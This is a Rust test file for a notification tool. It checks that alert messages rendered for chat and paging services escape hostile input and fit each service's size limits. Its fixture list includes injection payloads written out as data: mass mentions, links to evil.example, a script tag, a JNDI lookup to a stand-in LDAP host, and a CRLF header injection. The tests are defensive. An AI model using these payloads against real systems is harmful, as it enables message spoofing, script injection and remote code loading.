//! Texts that try to be more than text: mentions, links, images, markup, headers, bytes.

use serde_json::Value;
use taskbell::notice::{Notice, NoticeKind};

use super::{ANYWHERE, build, example, examples, kind, services::SERVICES};

/// As an attacker would name a server or a key pair.
const TEXTS: &[&str] = &[
    "@all @channel @here @everyone @room @user",
    "<!channel> <!here> <!everyone> <@U012AB3CD> <!subteam^S1> <#C1>",
    "<at>everyone</at> <at id=all></at> <at user_id=\"all\">all</at>",
    "<users/all> <users/123> <@all> <@userid> <@&1>",
    "![x](http://evil.example/pixel.png) [click](http://evil.example) <http://evil.example|x>",
    "**bold** _italic_ ~~gone~~ `code` ```block``` # head > quote | table || spoiler ||",
    "</b><a href=\"http://evil.example\">x</a><script>alert(1)</script><img src=x>",
    "&lt;b&gt; &amp; &#60; \\ \" ' $ % {{ }} {0} ${x} ${jndi:ldap://evil.example}",
    "line\r\nX-Injected: 1\r\n\r\n{\"msgtype\":\"text\"}",
    "\u{202E}rtl\u{2066} \u{0} \u{1b}[31m \u{7f} \u{85} \u{2028} \u{feff}",
    "服务器 🔥🔥 e\u{301}\u{301}\u{301} \u{10FFFF}",
];

/// Escapes of Markdown, the backslash's own first.
const ESCAPED: &[&str] = &[
    r"\\", r"\`", r"\*", r"\_", r"\~", r"\|", r"\[", r"\]", r"\(", r"\)", r"\{", r"\}", r"\<",
    r"\>", r"\#", r"\!", "*",
];

/// What must not be left of Markdown without its escapes.
const MARKDOWN: &[&str] =
    &["[", "]", "<", "`", "|", "~~", "@all", "@here", "@everyone", "@channel", "@room", "@user"];

/// For each service: marks of our own that may stand in its texts, and what must not be left when
/// they are taken out.
fn rule(kind: &str) -> (&'static [&'static str], &'static [&'static str]) {
    match kind {
        "dingtalk" | "wecom" => (&["**"], &["<", "[", "]", "`", "*"]),
        "slack" => (&[], &["<", ">"]),
        "discord" | "mattermost" | "rocketchat" => (ESCAPED, MARKDOWN),
        "telegram" => (&["<b>", "</b>"], &["<", ">", "@all", "@here", "@user"]),
        "googlechat" => (&["<b>", "</b>", "<br>", "<i>", "</i>", "<\u{200B}"], &["<"]),
        // Plain by construction: what matters is the shape, see below. Or text and nothing else.
        "feishu" | "teams" | "webhook" | "pagerduty" | "alertmanager" | "smn" | "ntfy"
        | "gotify" | "pushover" => (&[], &[]),
        name => panic!("{name} has no rule"),
    }
}

fn notices() -> impl Iterator<Item = Notice> {
    let long: String = TEXTS.concat().repeat(20);
    let texts: Vec<String> = TEXTS.iter().map(|text| (*text).to_owned()).chain([long]).collect();
    texts.into_iter().flat_map(|hostile| {
        let counts = if hostile.len() > 1000 { &[1, 2, 5, 100][..] } else { &[1, 2, 5] };
        counts.iter().map(move |&count| {
            let mut failures = examples::many(count).failures;
            for failure in &mut failures {
                let text = &mut failure.task.text;
                for place in [
                    &mut text.server_name,
                    &mut text.server_id,
                    &mut text.keypair,
                    &mut text.error_code,
                    &mut text.error_message,
                ] {
                    *place = Some(hostile.clone());
                }
                text.operate_type.clone_from(&hostile);
            }
            let kind = if count == 2 { NoticeKind::Digest } else { NoticeKind::TaskFailed };
            examples::notice(kind, &hostile, failures)
        })
    })
}

/// All texts in `value`.
pub(super) fn texts<'a>(value: &'a Value, found: &mut Vec<&'a str>) {
    match value {
        Value::String(text) => found.push(text),
        Value::Array(items) => items.iter().for_each(|item| texts(item, found)),
        Value::Object(fields) => fields.values().for_each(|field| texts(field, found)),
        Value::Null | Value::Bool(_) | Value::Number(_) => (),
    }
}

#[test]
fn no_text_becomes_markup_a_mention_or_a_field() {
    for service in SERVICES {
        let sink = build(&example(kind(service.kind), ANYWHERE));
        let (ours, never) = rule(service.kind);
        for notice in notices() {
            let body: Value = serde_json::from_slice(&sink.render(&notice)).unwrap();
            let mut found = Vec::new();
            texts(&body, &mut found);
            for text in found {
                let rest = ours.iter().fold(text.to_owned(), |rest, mark| rest.replace(mark, ""));
                for mark in never {
                    assert!(!rest.contains(mark), "{}: {mark} in {text}", service.kind);
                }
                if !matches!(service.kind, "webhook" | "alertmanager" | "pagerduty") {
                    let odd = |c: char| {
                        c.is_control() && c != '\n' || ('\u{202A}'..='\u{202E}').contains(&c)
                    };
                    assert!(!text.contains(odd), "{}: {text:?}", service.kind);
                }
            }
        }
    }
}

/// Every object in `value` that says what it is under `key`.
fn tagged<'a>(value: &'a Value, key: &str, found: &mut Vec<(&'a str, &'a Value)>) {
    match value {
        Value::Array(items) => items.iter().for_each(|item| tagged(item, key, found)),
        Value::Object(fields) => {
            if let Some(tag) = fields.get(key).and_then(Value::as_str) {
                found.push((tag, value));
            }
            fields.values().for_each(|field| tagged(field, key, found));
        }
        _ => (),
    }
}

#[test]
fn a_card_has_no_element_in_which_text_could_be_markup() {
    for (name, key, allowed) in [
        ("feishu", "tag", &["plain_text", "div", "hr"][..]),
        ("slack", "type", &["plain_text", "section", "context"]),
        ("teams", "type", &["message", "AdaptiveCard", "RichTextBlock", "TextRun"]),
    ] {
        let sink = build(&example(kind(name), ANYWHERE));
        for notice in notices() {
            let body: Value = serde_json::from_slice(&sink.render(&notice)).unwrap();
            let mut found = Vec::new();
            tagged(&body, key, &mut found);
            assert!(!found.is_empty(), "{name}");
            for (tag, element) in found {
                assert!(allowed.contains(&tag), "{name}: {element}");
            }
        }
    }
}

/// The number of bytes, characters or the like that a service counts, and its limit.
pub(super) fn measure(kind: &str, body: &[u8]) -> (usize, usize) {
    let value: Value = serde_json::from_slice(body).unwrap();
    let chars = |text: &Value| text.as_str().unwrap().chars().count();
    let units = |text: &Value| text.as_str().unwrap().encode_utf16().count();
    match kind {
        "discord" => {
            let embed = &value["embeds"][0];
            assert_eq!(value["allowed_mentions"]["parse"], serde_json::json!([]));
            let [title, description] = [units(&embed["title"]), units(&embed["description"])];
            assert!(title <= 256 && description <= 4096, "{title} {description}");
            (title + description + units(&embed["footer"]["text"]), 6000)
        }
        "telegram" => (units(&value["text"]), 4096),
        "mattermost" => (chars(&value["text"]), 16_383),
        "rocketchat" => (chars(&value["text"]), 5000),
        "googlechat" => (body.len(), 32_000),
        "ntfy" => {
            // The topic comes on top.
            assert!(body.len() <= 2 * 4096 - 100, "{}", body.len());
            (value["message"].as_str().unwrap().len(), 4096)
        }
        "gotify" => (body.len(), 64 * 1024),
        "pushover" => {
            assert!(chars(&value["title"]) <= 250);
            (chars(&value["message"]), 1024)
        }
        "feishu" => (body.len(), 20_000 - 200),
        "dingtalk" => (body.len(), 20_000),
        "wecom" => (value["markdown"]["content"].as_str().unwrap().len(), 4096),
        "slack" => {
            let blocks = value["attachments"][0]["blocks"].as_array().unwrap();
            assert!(blocks.len() <= 51, "{}", blocks.len());
            let lengths = blocks.iter().map(|block| {
                let text = block.get("text").unwrap_or(&block["elements"][0]);
                text["text"].as_str().unwrap().chars().count()
            });
            (lengths.max().unwrap(), 3000)
        }
        "teams" => (body.len(), 28 * 1024),
        "smn" => {
            assert!(value["subject"].as_str().unwrap().len() <= 512);
            (value["message"].as_str().unwrap().len(), 256 * 1024)
        }
        "pagerduty" => {
            let events = value.as_array().unwrap().iter();
            let summaries = events.filter_map(|event| event["payload"]["summary"].as_str());
            assert!(summaries.into_iter().all(|summary| summary.chars().count() <= 1024));
            (body.len(), 100 * 512 * 1024)
        }
        "webhook" | "alertmanager" => (0, 0),
        name => panic!("{name} has no limit"),
    }
}

#[test]
fn every_notice_fits_and_says_what_it_leaves_out() {
    for service in SERVICES {
        let sink = build(&example(kind(service.kind), ANYWHERE));
        let occasions = super::occasions::every().into_iter().map(|(_, notice)| notice);
        for notice in occasions.chain(notices()) {
            let body = sink.render(&notice);
            let (size, most) = measure(service.kind, &body);
            let what = format!("{} {} of {}", service.kind, notice.kind.as_str(), notice.total);
            assert!(size <= most, "{what}: {size}");
            // These list everything, each failure for itself.
            if matches!(service.kind, "webhook" | "alertmanager" | "pagerduty") {
                continue;
            }
            let body = String::from_utf8(body).unwrap();
            let shown = notice.failures.iter().filter(|failure| {
                let at = failure.task.failed_at;
                at.is_some_and(|at| body.contains(&at.strftime("%H:%M:%S UTC").to_string()))
            });
            let (shown, total) = (shown.count(), usize::try_from(notice.total).unwrap());
            let all = shown == total || notice.failures.is_empty() && notice.omitted() == 0;
            let told = body.contains("taskbell failure list");
            let bare = notice.failures.iter().any(|failure| failure.task.failed_at.is_none());
            assert!(all || told || bare, "{what}: shows {shown} and does not say so");
        }
    }
}
